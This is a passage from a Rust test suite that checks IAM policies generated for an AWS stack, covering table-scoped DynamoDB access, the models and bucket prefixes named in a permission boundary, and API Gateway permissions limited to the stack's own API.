        (Decision::Allow, Some("BoundaryQuotaTable".to_owned()))
    );
    for action in ["dynamodb:UpdateItem", "dynamodb:GetItem", "dynamodb:Scan"] {
        assert_eq!(
            from_function(action, &other).0,
            Decision::ImplicitDeny,
            "{action} on another table"
        );
    }
    assert_eq!(
        from_function("dynamodb:DeleteTable", &own).0,
        Decision::ImplicitDeny,
        "the functions never delete their table"
    );
    assert_eq!(
        explain(&p.boundary, &Request::new("dynamodb:UpdateItem", &own)).0,
        Decision::ExplicitDeny,
        "credentials used outside the stack's functions"
    );
}

#[test]
fn the_boundary_names_exactly_the_models_and_keys_the_app_roles_are_granted() {
    for cfg in [dev(), local()] {
        let t = bootstrap::bootstrap(&cfg).to_json_value();
        let doc = &properties(&t, BOUNDARY, "AWS::IAM::ManagedPolicy")["PolicyDocument"];
        let statement = |sid: &str| {
            doc["Statement"]
                .as_array()
                .expect("statements")
                .iter()
                .find(|s| s["Sid"] == sid)
                .unwrap_or_else(|| panic!("{sid}"))
                .clone()
        };
        let granted: Vec<Value> = codegen_infra::app_grants::resources_of(&cfg, "bedrock");
        assert_eq!(
            statement("BoundaryModels")["Resource"],
            json!(granted),
            "{}",
            cfg.name
        );
        assert!(
            !statement("BoundaryModels")["Resource"]
                .to_string()
                .contains("anthropic.*"),
            "no model family wildcard"
        );
        let patterns: BTreeSet<String> = statement("BoundaryCodeBucket")["Resource"]
            .as_array()
            .expect("list")
            .iter()
            .map(|r| r["Fn::Sub"].as_str().expect("sub").to_owned())
            .collect();
        let bucket = names::code_bucket_pattern(&cfg.stack_name);
        assert_eq!(
            patterns,
            BTreeSet::from([
                format!("arn:${{AWS::Partition}}:s3:::{bucket}/code-output/*"),
                format!("arn:${{AWS::Partition}}:s3:::{bucket}/jobs/*"),
            ])
        );
    }
}

/// The High finding: every API Gateway permission of the execution and deploy roles names this
/// stack's API id; nothing reaches `/apis/*` of the region or `/tags/*`.
#[test]
fn api_gateway_permissions_name_only_the_stacks_own_api() {
    let t = bootstrap::bootstrap(&dev_with_stack_name("other-app")).to_json_value();
    for role in [
        EXECUTION_ROLE,
        bootstrap::DEPLOY_ROLE,
        bootstrap::PLAN_ROLE,
        bootstrap::DIFF_ROLE,
    ] {
        for doc in role_policy_documents(&t, role) {
            for st in doc["Statement"].as_array().expect("statements") {
                let apigw = st["Action"]
                    .as_array()
                    .expect("actions")
                    .iter()
                    .any(|a| a.as_str().is_some_and(|a| a.starts_with("apigateway:")));
                if !apigw {
                    continue;
                }
                for r in st["Resource"].as_array().expect("resources") {
                    let arn = r["Fn::Sub"].as_str().expect("a Fn::Sub ARN");
                    assert!(
                        arn.starts_with(
                            "arn:${AWS::Partition}:apigateway:${AWS::Region}::/apis/${Api}"
                        ),
                        "{role}/{}: {arn}",
                        st["Sid"]
                    );
                }
            }
        }
    }
    // The deploy role's stage deployment: another API's deployments are refused by the scope.
    let deploy = resolve(
        role_policy_documents(
            &bootstrap::bootstrap(&dev()).to_json_value(),
            bootstrap::DEPLOY_ROLE,
        )[0],
        &names_table(),
    );
    assert_eq!(
        explain(
            &deploy,
            &Request::new("apigateway:POST", &apis(OTHER_API_ID, "deployments"))
        ),
        (Decision::ImplicitDeny, None)
    );
    assert_eq!(
        explain(
            &deploy,
            &Request::new("apigateway:POST", &apis(API_ID, "deployments"))
        ),
        (Decision::Allow, Some("ApiStageDeployment".to_owned()))
    );
    // The API and its exports belong to the bootstrap; the app stack imports them.
    let boot = bootstrap::bootstrap(&dev()).to_json_value();
    assert_eq!(
        boot["Outputs"]["ApiId"]["Export"]["Name"],
        names::api_id_export(STACK)
    );
    let app = codegen_infra::stack(&dev()).to_json_value();
    assert!(
        app["Resources"]
            .as_object()
            .expect("resources")
            .values()
            .all(|r| r["Type"] != "AWS::ApiGatewayV2::Api")
    );
}

#[test]
fn every_type_the_execution_role_may_create_has_a_hostile_case() {
    let attacked: BTreeSet<&str> = cases()
        .iter()
        .flat_map(|c| c.types.iter().copied())
        .collect();
    let known: BTreeSet<&str> = KNOWN_TYPES.iter().map(|(t, _)| *t).collect();
    for cfg in [dev(), local()] {
        let app = codegen_infra::stack(&cfg).to_json_value();
        for r in app["Resources"].as_object().expect("resources").values() {
            let kind = r["Type"].as_str().expect("type");
            assert!(
                known.contains(kind),
                "{kind}: no create calls in KNOWN_TYPES"
            );
            assert!(
                attacked.contains(kind),
                "{kind}: no hostile case attacks it"
            );
        }
    }
    // And every known type is attacked (a type the stack lost keeps its case).
    for kind in &known {
        assert!(attacked.contains(kind), "{kind}: no hostile case");
    }
}
